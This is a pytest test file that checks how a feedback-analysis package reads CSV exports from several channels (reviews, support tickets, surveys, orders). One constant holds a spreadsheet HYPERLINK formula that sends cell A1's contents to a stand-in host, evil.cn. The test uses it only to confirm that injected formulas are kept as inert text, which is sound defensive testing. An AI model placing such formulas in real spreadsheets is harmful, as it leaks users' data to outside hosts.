"""What every channel must do. A new channel: a line in its catalogue and one in `SAMPLES`."""

import csv
import dataclasses
import io
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from builders import NOW

from feedback_nlp.channels import CHANNELS, named
from feedback_nlp.errors import InputError
from feedback_nlp.records import Arrival, Rejected, Review
from feedback_nlp.tabular.cells import MAX_CELL
from feedback_nlp.tabular.files import open_sheets

SAMPLE_FOLDER = Path(__file__).parents[1] / "samples"
FORMULA = '=HYPERLINK("http://evil.cn/?x="&A1,"点我")'


@dataclass(frozen=True)
class Sample:
    """An export as people write it, and what becomes of it."""

    channel: str
    file: str
    records: int
    rejected: tuple[int, ...]
    """Lines that cannot be used; one line can only be one of them."""
    needed: tuple[str, ...]
    """Without these headers the table is not one of this channel."""
    field: str
    """The field of the first of `needed`."""
    words: str
    """A header whose cells are kept as written."""

    @property
    def path(self) -> Path:
        return SAMPLE_FOLDER / self.file

    def rows(self) -> list[list[str]]:
        return list(csv.reader(self.path.read_text(encoding="utf-8").splitlines(keepends=True)))


QUESTIONS = ("4、打这个分数的主要原因是什么？", "5、您还有哪些建议？")
SCORES = (
    "1、您向朋友或同事推荐我们的可能性有多大？",
    "2、您对配送速度的满意度",
    "3、您对本次服务的总体满意度",
)
SAMPLES = (
    Sample("table", "table.csv", 5, (4, 7), ("评论内容",), "text", "评论内容"),
    Sample("app_store", "app_store.csv", 7, (5, 9, 10), ("评论内容", "标题"), "text", "评论内容"),
    Sample(
        "ecommerce", "ecommerce.csv", 7, (5, 6, 10), ("初评内容", "追评内容"), "text", "初评内容"
    ),
    Sample("support", "support.csv", 3, (8, 9, 11, 12), ("消息内容",), "text", "消息内容"),
    Sample(
        "support",
        "support_tickets.csv",
        4,
        (7, 9, 12, 13),
        ("问题描述", "标题", "聊天记录"),
        "text",
        "问题描述",
    ),
    Sample("survey", "survey.csv", 11, (5, 7, 9), (*QUESTIONS, *SCORES), "text", QUESTIONS[0]),
    Sample("community", "community.csv", 5, (6, 9, 10, 11), ("正文", "标题"), "text", "正文"),
    Sample("usage", "usage.csv", 5, (7, 8, 9, 10, 11), ("事件名称",), "name", "事件名称"),
    Sample("exposure", "exposure.csv", 4, (5, 7, 8, 9, 10), ("日期",), "day", "产品"),
    Sample("customers", "customers.csv", 5, (6, 7, 8), ("客户ID",), "author_id", "省份"),
    Sample("orders", "orders.csv", 4, (5, 6, 7, 8, 10, 11), ("实付金额",), "amount", "商品名称"),
)


@pytest.fixture(params=SAMPLES, ids=[each.file for each in SAMPLES])
def sample(request: pytest.FixtureRequest) -> Sample:
    assert isinstance(request.param, Sample)
    return request.param


def read(sample: Sample, path: Path | None = None, **options: Any) -> list[Arrival | Rejected]:  # noqa: ANN401 (options of any channel)
    channel = named(sample.channel)
    return [
        row
        for sheet in open_sheets(path or sample.path, known=channel.fields)
        for row in channel.read(sheet, now=NOW, **options)
    ]


def written(rows: Sequence[Sequence[str]], folder: Path) -> Path:
    stream = io.StringIO()
    csv.writer(stream).writerows(rows)
    path = folder / "导出.csv"
    path.write_text(stream.getvalue(), encoding="utf-8", newline="")
    return path


def found(rows: list[Arrival | Rejected]) -> list[Arrival]:
    return [row for row in rows if not isinstance(row, Rejected)]


def values(record: object) -> Iterator[object]:
    """Every value in a record, however deep."""
    if dataclasses.is_dataclass(record):
        for each in dataclasses.fields(record):
            yield from values(getattr(record, each.name))
    elif isinstance(record, tuple):
        for part in record:
            yield from values(part)
    else:
        yield record


def first_row_with(sample: Sample, cell: str, folder: Path) -> list[Arrival | Rejected]:
    """Read the sample's first row alone, with `cell` among its words."""
    header, row = sample.rows()[:2]
    row[header.index(sample.words)] = cell
    return read(sample, written([header, row], folder))


def test_every_channel_has_a_sample() -> None:
    assert {sample.channel for sample in SAMPLES} == set(CHANNELS)


def test_channel_reads_lazily(sample: Sample) -> None:
    (sheet,) = open_sheets(sample.path)
    assert isinstance(named(sample.channel).read(sheet, now=NOW), Iterator)


def test_channel_gives_records_and_rejected_lines_with_reasons(sample: Sample) -> None:
    rows = read(sample)
    rejected = [row for row in rows if isinstance(row, Rejected)]
    assert sorted(row.line for row in rejected) == list(sample.rejected)
    assert all(row.reason and row.raw for row in rejected)
    assert len(found(rows)) == sample.records


def test_every_record_has_an_id_of_its_own(sample: Sample) -> None:
    ids = [getattr(record, "id", str(record)) for record in found(read(sample))]
    assert len(set(ids)) == len(ids)


def test_every_review_has_words_and_a_channel(sample: Sample) -> None:
    reviews = [record for record in found(read(sample)) if isinstance(record, Review)]
    assert all(review.text.strip() and review.channel for review in reviews)


def test_times_are_zoned_and_not_in_the_future(sample: Sample) -> None:
    times = [time for time in values(tuple(found(read(sample)))) if isinstance(time, datetime)]
    assert times or sample.channel in {"exposure", "customers"}
    assert all(time.tzinfo is not None and time <= NOW for time in times)


def test_reading_twice_gives_the_same(sample: Sample) -> None:
    assert read(sample) == read(sample)


def test_another_order_of_rows_gives_the_same_records(sample: Sample, tmp_path: Path) -> None:
    header, *rows = sample.rows()
    again = found(read(sample, written([header, *reversed(rows)], tmp_path)))
    assert set(again) == set(found(read(sample)))


def test_another_order_of_columns_gives_the_same_ids(sample: Sample, tmp_path: Path) -> None:
    rows = [row[::-1] for row in sample.rows() if row]
    again = found(read(sample, written(rows, tmp_path)))
    ids = {getattr(record, "id", record) for record in found(read(sample))}
    assert {getattr(record, "id", record) for record in again} == ids


def test_name_of_the_channel_can_be_given(sample: Sample) -> None:
    records = found(read(sample, channel="另一个来源"))
    with_channel = {record.channel for record in records if hasattr(record, "channel")}
    assert "另一个来源" in with_channel or sample.channel in {
        "usage",
        "customers",
        "orders",
        "survey",
    }


def test_mapped_column_is_read(sample: Sample, tmp_path: Path) -> None:
    header, *rows = sample.rows()
    renamed = ["神秘列" if name == sample.needed[0] else name for name in header]
    path = written([renamed, *rows], tmp_path)
    records = found(read(sample, path, given={"神秘列": sample.field}))
    assert [type(record) for record in records] == [type(each) for each in found(read(sample))]


def test_missing_column_is_an_input_error_that_says_how_to_map(
    sample: Sample, tmp_path: Path
) -> None:
    header, *rows = sample.rows()
    renamed = [
        f"神秘列{place}" if name in sample.needed else name for place, name in enumerate(header)
    ]
    path = written([renamed, *rows], tmp_path)
    with pytest.raises(InputError, match=rf"{path.name}.*找不到.*列：表头是 .*--map 你的表头=\w+"):
        read(sample, path)


def test_blank_file_is_an_input_error_or_empty(sample: Sample, tmp_path: Path) -> None:
    path = tmp_path / "空.csv"
    path.write_text("", encoding="utf-8")
    with pytest.raises(InputError, match=path.name):
        read(sample, path)


def test_header_alone_holds_nothing(sample: Sample, tmp_path: Path) -> None:
    assert found(read(sample, written(sample.rows()[:1], tmp_path))) == []


def test_injected_formula_stays_the_text_it_is(sample: Sample, tmp_path: Path) -> None:
    records = found(first_row_with(sample, FORMULA, tmp_path))
    assert any(FORMULA in str(value) for record in records for value in values(record))


def test_very_long_cell_is_kept_whole(sample: Sample, tmp_path: Path) -> None:
    cell = "慢" * (MAX_CELL - 1)
    records = found(first_row_with(sample, cell, tmp_path))
    assert any(cell in str(value) for record in records for value in values(record))


def test_cell_longer_than_any_review_is_rejected(sample: Sample, tmp_path: Path) -> None:
    (row,) = first_row_with(sample, "慢" * (MAX_CELL + 1), tmp_path)
    assert isinstance(row, Rejected)


def test_file_that_is_not_text_is_an_input_error(sample: Sample, tmp_path: Path) -> None:
    path = tmp_path / "坏.csv"
    path.write_bytes(bytes(range(256)) * 10)
    with pytest.raises(InputError, match=path.name):
        read(sample, path)
